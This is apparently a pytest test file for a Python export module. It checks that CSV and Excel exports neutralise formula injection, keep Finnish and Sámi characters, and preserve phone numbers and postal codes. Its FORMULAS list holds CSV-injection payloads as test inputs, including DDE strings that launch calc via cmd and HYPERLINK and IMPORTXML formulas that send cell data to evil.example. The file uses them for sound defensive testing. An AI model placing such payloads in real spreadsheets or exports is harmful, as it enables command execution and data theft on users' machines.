"""What is written is text to every spreadsheet, and the same again to the house."""

from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from juries.files.guards import guarded, unguarded
from juries.files.tables import read_table
from juries.files.writing import csv_bytes, lost_in_windows, windows_csv_bytes, xlsx_bytes

FINNISH = "aäåöÄÅÖšžáčđŋŧâõʹǥǧǩʒǯ' -=+@'\t;,\"|"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    "'=1+1",
    "+358-40-1234567",
    "+",
    "-",
]
HARMLESS = [
    "+358 40 123 4567",
    "+358401234567",
    "-5",
    "-0,5",
    "00100",
    "1/2",
    "O'Brien",
    "'",
    "a=b",
]
# What reading trims and composes anyway, no export has to keep.
names = st.text(st.sampled_from(FINNISH), min_size=1, max_size=30).map(str.strip)


def read_back(content: bytes) -> list[tuple[str, ...]]:
    return [row.cells for row in read_table(content, file="back").rows]


@pytest.mark.parametrize("cell", FORMULAS)
def test_s7_no_cell_of_a_csv_file_is_a_formula(cell):
    assert guarded(cell).startswith("'")
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_is_written_as_it_is(cell):
    assert guarded(cell) == unguarded(cell) == cell


@given(st.text())
def test_any_guarded_cell_is_whole_again(cell):
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", [*FORMULAS, *HARMLESS])
def test_s7_every_cell_of_a_workbook_is_text(cell):
    book = load_workbook(BytesIO(xlsx_bytes(["a"], [[cell]])))

    assert {one.data_type for row in book.active.iter_rows() for one in row} == {"s"}
    assert book.active["A2"].number_format == "@"


@given(st.lists(st.tuples(names, names), min_size=1, max_size=5))
def test_b2_every_finnish_and_sami_letter_comes_back_from_csv(people):
    people = [row for row in people if any(row)] or [("Áile", "Ŋ")]
    content = csv_bytes(["nimi", "katu"], people)

    assert read_back(content) == people
    assert csv_bytes(["nimi", "katu"], read_back(content)) == content


@given(st.lists(st.tuples(names, names), min_size=1, max_size=5))
def test_b2_every_finnish_and_sami_letter_comes_back_from_a_workbook(people):
    people = [row for row in people if any(row)] or [("Áile", "Ŋ")]

    assert read_back(xlsx_bytes(["nimi", "katu"], people)) == people


def test_b2_what_windows_cannot_hold_is_known_beforehand():
    assert lost_in_windows("Ánne Čáhpi, Đ ŋ €, Š, Ŋ ŋ") == ["Č", "Đ", "ŋ", "Ŋ"]
    assert lost_in_windows("Åke Järvi, Š €") == []
    assert b"?\xe1hpi" in windows_csv_bytes(["nimi"], [["Čáhpi"]])


def test_a_phone_number_and_a_postal_code_stay_what_they_are():
    row = ("+358 40 123 4567", "00100", "0401234567")

    for content in (csv_bytes(["a", "b", "c"], [row]), xlsx_bytes(["a", "b", "c"], [row])):
        assert read_back(content) == [row]
    assert b"\r\n+358 40 123 4567;00100;0401234567\r\n" in csv_bytes(["a", "b", "c"], [row])


def test_a_workbook_says_who_took_it_out_when_and_why():
    stamp = "Orvokki Alkulähde, 1.2.2027: letters & labels"
    book = load_workbook(BytesIO(xlsx_bytes(["a"], [["1"]], stamp=stamp, about="Tietoja")))

    assert book["Tietoja"]["A1"].value == stamp
    assert "letters" in book.worksheets[0].oddFooter.left.text
    assert read_back(xlsx_bytes(["a"], [["1"]], stamp=stamp)) == [("1",)]


def test_thirty_thousand_rows_are_written_as_they_come():
    rows = ([str(number), "x"] for number in range(30_000))

    assert csv_bytes(["a", "b"], rows).count(b"\r\n") == 30_001
